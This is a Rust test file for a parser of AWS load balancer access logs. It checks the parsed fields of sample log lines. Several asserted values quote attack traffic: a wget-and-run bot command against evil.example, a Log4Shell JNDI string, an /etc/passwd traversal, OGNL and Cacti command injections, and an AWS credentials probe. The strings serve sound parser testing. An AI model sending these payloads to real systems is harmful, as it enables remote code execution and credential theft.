use super::*;
use crate::parse::{Owned, StreamParser};
use crate::record::format_rfc3339;
use std::net::IpAddr;

pub(crate) const SAMPLE: &str = include_str!("../../../sample-logs/alb.log");

/// Run every line of `text` through a fresh [`StreamParser`]: one outcome per line.
pub(crate) fn outcomes(text: &str, forced: Option<Format>) -> Vec<Owned<'_>> {
    let mut p = StreamParser::new(forced);
    text.split('\n')
        .map(|line| {
            let mut v = Vec::new();
            p.parse_line(line, &mut |o| v.push(o.owned()));
            assert_eq!(v.len(), 1, "one outcome per line: {line:?}");
            v.pop().unwrap()
        })
        .collect()
}

pub(crate) fn req<'a, 'b>(o: &'b Owned<'a>) -> &'b Request<'a> {
    match o {
        Owned::Request(r) => r,
        other => panic!("expected a request, got {other:?}"),
    }
}

pub(crate) fn ip(s: &str) -> Option<IpAddr> {
    Some(s.parse().unwrap())
}

pub(crate) fn t(s: &str) -> Micros {
    lex::iso8601(s).unwrap()
}

pub(crate) use crate::testutil::formats_dir;

/// Read one fixture file, or `None` (and say so) when the formats folder is absent.
pub(crate) fn fixture(sub: &str, name: &str) -> Option<String> {
    let Some(dir) = formats_dir(sub) else {
        println!("skipped: formats folder not found");
        return None;
    };
    Some(std::fs::read_to_string(dir.join(name)).expect("fixture listed in README"))
}

#[test]
fn sample_file_every_line() {
    let o = outcomes(SAMPLE, None);
    assert_eq!(o.len(), 31);

    // 1: plain http, 29 fields.
    let r = req(&o[0]);
    assert_eq!(r.format, Format::Alb);
    assert_eq!(format_rfc3339(r.time), "2024-03-05T10:00:01.123456Z");
    assert_eq!(r.client_ip, ip("198.51.100.7"));
    assert_eq!(r.client_host, None);
    assert_eq!(r.client_port, Some(40001));
    assert_eq!(r.backend.as_deref(), Some("10.20.0.11:8080"));
    assert_eq!(
        (r.request_time_us, r.backend_time_us, r.response_time_us),
        (Some(1000), Some(15_000), Some(0))
    );
    assert_eq!(r.total_time_us, Some(16_000));
    assert_eq!((r.status, r.backend_status), (Some(200), Some(200)));
    assert_eq!((r.bytes_in, r.bytes_out), (Some(412), Some(5120)));
    assert_eq!(r.method.as_deref(), Some("GET"));
    assert_eq!(r.scheme.as_deref(), Some("http"));
    assert_eq!(r.host.as_deref(), Some("shop.example.org"));
    assert_eq!(r.path.as_deref(), Some("/products"));
    assert_eq!(r.query.as_deref(), Some("page=2"));
    assert_eq!(r.protocol.as_deref(), Some("HTTP/1.1"));
    assert!(r.user_agent.as_deref().unwrap().ends_with("Firefox/123.0"));
    assert_eq!(
        (r.tls_cipher.as_deref(), r.tls_protocol.as_deref()),
        (None, None)
    );
    assert_eq!(
        r.trace_id.as_deref(),
        Some("Root=1-65e6ee01-aaaabbbbccccddddeeeeffff")
    );
    assert_eq!(r.reason, None);
    assert!(!r.is_lb_5xx());

    // 2: https with TLS, SNI domain and the transform fields.
    let r = req(&o[1]);
    assert_eq!(r.scheme.as_deref(), Some("https"));
    assert_eq!(r.method.as_deref(), Some("POST"));
    assert_eq!(r.host.as_deref(), Some("api.example.org"));
    assert_eq!(r.tls_cipher.as_deref(), Some("ECDHE-RSA-AES128-GCM-SHA256"));
    assert_eq!(r.tls_protocol.as_deref(), Some("TLSv1.2"));
    assert_eq!(r.status, Some(201));
    assert_eq!(r.total_time_us, Some(123_000));
    let f = Fields::split(SAMPLE.lines().nth(1).unwrap()).unwrap();
    assert_eq!(f.len(), MAX_FIELDS);
    assert_eq!(f.get(Field::ActionsExecuted), Some("authenticate,forward"));
    assert_eq!(
        f.get(Field::ConnTraceId),
        Some("TID_9f8e7d6c5b4a39281706f5e4d3c2b1a0")
    );
    assert_eq!(
        f.get(Field::TransformedHost),
        Some("internal-api.example.org")
    );
    assert_eq!(f.get(Field::TransformedUri), Some("/v2/orders"));
    assert_eq!(
        f.get(Field::RequestTransformStatus),
        Some("TransformSuccess")
    );
    assert_eq!(f.get(Field::MatchedRulePriority), Some("10"));

    // 3: h2 redirect action, no target, -1 timings.
    let r = req(&o[2]);
    assert_eq!(r.scheme.as_deref(), Some("h2"));
    assert_eq!(r.protocol.as_deref(), Some("HTTP/2.0"));
    assert_eq!((r.status, r.backend_status), (Some(301), None));
    assert_eq!(r.backend, None);
    assert_eq!(
        (
            r.request_time_us,
            r.backend_time_us,
            r.response_time_us,
            r.total_time_us
        ),
        (None, None, None, None)
    );
    assert_eq!(r.tls_protocol.as_deref(), Some("TLSv1.3"));
    assert_eq!(format_rfc3339(r.time), "2024-03-05T10:00:03.000001Z");

    // 4: ws upgrade.
    let r = req(&o[3]);
    assert_eq!(r.scheme.as_deref(), Some("ws"));
    assert_eq!((r.status, r.backend_status), (Some(101), Some(101)));
    assert_eq!(r.user_agent, None, "UA \"-\" is absent");
    assert_eq!(r.host.as_deref(), Some("chat.example.org"));

    // 5: wss, 25-field line with the `"-"7` typo (no space before the rule priority).
    let r = req(&o[4]);
    assert_eq!(r.scheme.as_deref(), Some("wss"));
    assert_eq!(r.status, Some(101));
    assert_eq!(r.bytes_out, Some(900));
    let f = Fields::split(SAMPLE.lines().nth(4).unwrap()).unwrap();
    assert_eq!(f.len(), 25);
    assert_eq!(f.get(Field::MatchedRulePriority), Some("7"));
    assert_eq!(f.get(Field::ActionsExecuted), Some("forward"));

    // 6: grpcs with TID and three `"-"` transform fields.
    let r = req(&o[5]);
    assert_eq!(r.scheme.as_deref(), Some("grpcs"));
    assert_eq!(r.path.as_deref(), Some("/inventory.v1.Stock/Get"));
    assert_eq!(r.host.as_deref(), Some("grpc.example.org"));
    assert_eq!(r.backend.as_deref(), Some("10.20.0.15:50051"));

    // 7 and 8: 25-field 2019 lines, 504 / 460 with -1 timings and target status `-`.
    let r = req(&o[6]);
    assert_eq!((r.status, r.backend_status), (Some(504), None));
    assert_eq!(r.backend.as_deref(), Some("10.0.1.5:80"));
    assert_eq!(r.total_time_us, None);
    assert!(r.is_lb_5xx());
    assert_eq!(format_rfc3339(r.time), "2019-06-01T08:00:00.000100Z");
    assert_eq!(
        r.host.as_deref(),
        Some("old-lb-123.us-east-1.elb.amazonaws.com")
    );
    let r = req(&o[7]);
    assert_eq!(
        (r.status, r.backend_status, r.bytes_out),
        (Some(460), None, Some(0))
    );
    assert_eq!(r.path.as_deref(), Some("/slow"));

    // 9: Lambda failure: 502, no target, error_reason.
    let r = req(&o[8]);
    assert_eq!(
        (r.status, r.backend_status, r.backend.as_deref()),
        (Some(502), None, None)
    );
    assert_eq!(r.reason.as_deref(), Some("LambdaInvalidResponse"));
    assert_eq!(r.backend_time_us, Some(30_000));
    assert!(r.is_lb_5xx());

    // 10: malformed request `"- http://host:80- -"`.
    let r = req(&o[9]);
    assert_eq!(r.status, Some(400));
    assert_eq!(
        (
            r.method.as_deref(),
            r.path.as_deref(),
            r.protocol.as_deref()
        ),
        (None, None, None)
    );
    assert_eq!(
        r.host.as_deref(),
        Some("lbtop-demo-123456.eu-west-1.elb.amazonaws.com")
    );
    assert_eq!(r.trace_id, None);
    assert_eq!(r.client_ip, ip("203.0.113.66"));

    // 11: `"- - -"`.
    let r = req(&o[10]);
    assert_eq!(r.status, Some(400));
    assert_eq!(
        (r.method.as_deref(), r.host.as_deref(), r.path.as_deref()),
        (None, None, None)
    );
    assert_eq!(r.bytes_in, Some(0));

    // 12: space inside the URL, classification reason.
    let r = req(&o[11]);
    assert_eq!(r.path.as_deref(), Some("/shell"));
    assert_eq!(
        r.query.as_deref(),
        Some("cd+/tmp;rm+-rf+*;wget+ evil.example/bot;sh+/tmp/bot")
    );
    assert_eq!(r.protocol.as_deref(), Some("HTTP/1.1"));
    assert_eq!(r.host.as_deref(), Some("127.0.0.1"));
    assert_eq!(r.user_agent.as_deref(), Some("Hello, world"));
    assert_eq!(r.reason.as_deref(), Some("SpaceInUri"));
    assert_eq!(r.status, Some(301));

    // 13: IPv6 client and target written with the port appended, no brackets.
    let r = req(&o[12]);
    assert_eq!(r.client_ip, ip("2001:db8:85a3:1:2:8a2e:370:7334"));
    assert_eq!(r.client_port, Some(50599));
    assert_eq!(
        r.backend.as_deref(),
        Some("2001:db8:aaaa:6:0:ed83:f46:1:8443")
    );
    assert_eq!(r.query.as_deref(), Some("q=shoes&limit=50"));
    assert_eq!(r.total_time_us, Some(53_000));

    // 14: WAF fixed-response to a double-encoded traversal.
    let r = req(&o[13]);
    assert_eq!(
        (r.status, r.backend_status, r.backend.as_deref()),
        (Some(403), None, None)
    );
    assert_eq!(
        r.path.as_deref(),
        Some("/%%32%65%%32%65/%%32%65%%32%65/etc/passwd")
    );
    assert!(!r.is_lb_5xx());

    // 15: Log4Shell user agent.
    let r = req(&o[14]);
    assert_eq!(
        r.user_agent.as_deref(),
        Some("${jndi:ldap://${env:USER}.probe.example/a}")
    );
    assert_eq!(r.path.as_deref(), Some("/.aws/credentials"));

    // 16: unquoted target:port list and status list (vrl variant).
    let r = req(&o[15]);
    assert_eq!((r.status, r.backend_status), (Some(404), Some(404)));
    let f = Fields::split(SAMPLE.lines().nth(15).unwrap()).unwrap();
    assert_eq!(f.get(Field::TargetPortList), Some("10.20.0.16:80"));
    assert_eq!(f.get(Field::TargetStatusCodeList), Some("404"));
    assert_eq!(
        f.get(Field::ConnTraceId),
        Some("TID_95969798999a9b9c9d9e9fa0a1a2a3a4")
    );

    // 17: blank; 18–20: non-request records; 21–23: rejected lines.
    assert_eq!(o[16], Owned::Skipped("blank"));
    assert_eq!(o[17], Owned::Rejected(Reject("nlb-record")));
    assert_eq!(o[18], Owned::Rejected(Reject("alb-connection-log")));
    assert_eq!(o[19], Owned::Rejected(Reject("alb-connection-log")));
    assert_eq!(o[20], Owned::Rejected(Reject("garbage")));
    assert_eq!(o[21], Owned::Rejected(Reject("bad-timestamp")));
    assert_eq!(o[22], Owned::Rejected(Reject("truncated")));

    // 24: CRLF line end.
    let r = req(&o[23]);
    assert_eq!(r.path.as_deref(), Some("/crlf"));
    assert_eq!(r.backend_status, Some(200));

    // 25: malformed `"- http://host:80-/ "` with 200.
    let r = req(&o[24]);
    assert_eq!(r.status, Some(200));
    assert_eq!(r.method, None);
    assert_eq!(r.host.as_deref(), Some("internal.example.org"));
    assert_eq!(r.client_ip, ip("127.0.0.1"));
    assert_eq!(format_rfc3339(r.time), "2024-03-05T10:17:00.748149Z");

    // 26: Nikto scanner UA, HEAD.
    let r = req(&o[25]);
    assert_eq!(r.method.as_deref(), Some("HEAD"));
    assert!(r.user_agent.as_deref().unwrap().contains("(Nikto/2.1.6)"));
    assert_eq!(r.client_ip, ip("192.0.2.100"));
    assert_eq!(r.host.as_deref(), Some("10.20.2.105"));

    // 27: URL-encoded OGNL injection in the path, WAF 404.
    let r = req(&o[26]);
    assert!(
        r.path
            .as_deref()
            .unwrap()
            .starts_with("/%24%7B%28%23a%3D%40org.apache")
    );
    assert_eq!(r.query, None);
    assert_eq!((r.status, r.backend_status), (Some(404), None));

    // 28: Cacti command injection in the query.
    let r = req(&o[27]);
    assert_eq!(r.path.as_deref(), Some("/remote_agent.php"));
    assert_eq!(
        r.query.as_deref(),
        Some(
            "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.oast.example"
        )
    );
    assert_eq!(r.host.as_deref(), Some("cacti.example.org"));

    // 29: POST probe answered 400 by the LB itself.
    let r = req(&o[28]);
    assert_eq!(
        (r.method.as_deref(), r.path.as_deref()),
        (Some("POST"), Some("/cgi-bin/login.cgi"))
    );
    assert_eq!(
        (r.status, r.backend.as_deref(), r.total_time_us),
        (Some(400), None, None)
    );
    assert_eq!(r.trace_id, None);

    // 30: NLB line of dashes; 31: failed mTLS connection log, no final newline.
    assert_eq!(o[29], Owned::Rejected(Reject("nlb-record")));
    assert_eq!(o[30], Owned::Rejected(Reject("alb-connection-log")));
}

#[test]
fn direct_parse_matches_stream_and_crlf() {
    for line in SAMPLE.split('\n').filter(|l| !l.trim().is_empty()) {
        let direct = parse(line);
        let trimmed = parse(line.trim_end_matches('\r'));
        assert_eq!(direct, trimmed, "{line}");
    }
}

#[test]
fn sniff_cases() {
    let lines: Vec<&str> = SAMPLE.split('\n').collect();
    for i in [0, 1, 2, 3, 4, 5, 8, 9, 12, 17, 18, 19] {
        assert!(sniff(lines[i]), "line {}", i + 1);
    }
    assert!(!sniff(lines[20]), "garbage");
    assert!(!sniff(""));
    assert!(!sniff("http is great"));
    // A classic ELB line is not ALB.
    assert!(!sniff(
        "2015-05-13T23:39:43.945958Z my-lb 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 \"GET http://www.example.com:80/ HTTP/1.1\" \"curl/7.38.0\" - -"
    ));
}

#[test]
fn unknown_type_and_misaligned_status() {
    let base = SAMPLE.lines().next().unwrap();
    let future = base.replacen("http ", "h3 ", 1);
    let r = parse(&future).unwrap();
    assert_eq!(r.scheme.as_deref(), Some("h3"));
    let bad = base.replacen(" 200 200 ", " 200 OK ", 1);
    assert_eq!(parse(&bad), Err(Reject("bad-status")));
    let short = "http 2024-03-05T10:00:01.123456Z app/x 1.2.3.4:5 - -1 -1 -1 400";
    assert_eq!(parse(short), Err(Reject("truncated")));
    assert_eq!(parse(""), Err(Reject("garbage")));
    assert_eq!(parse("not \"alb at all"), Err(Reject("garbage")));
    assert_eq!(
        parse("http 2024-03-05T10:00:01Z app/x \"cut"),
        Err(Reject("truncated"))
    );
    let old = base.replacen("2024-03-05", "1970-01-01", 1);
    assert_eq!(parse(&old), Err(Reject("bad-timestamp")));
}
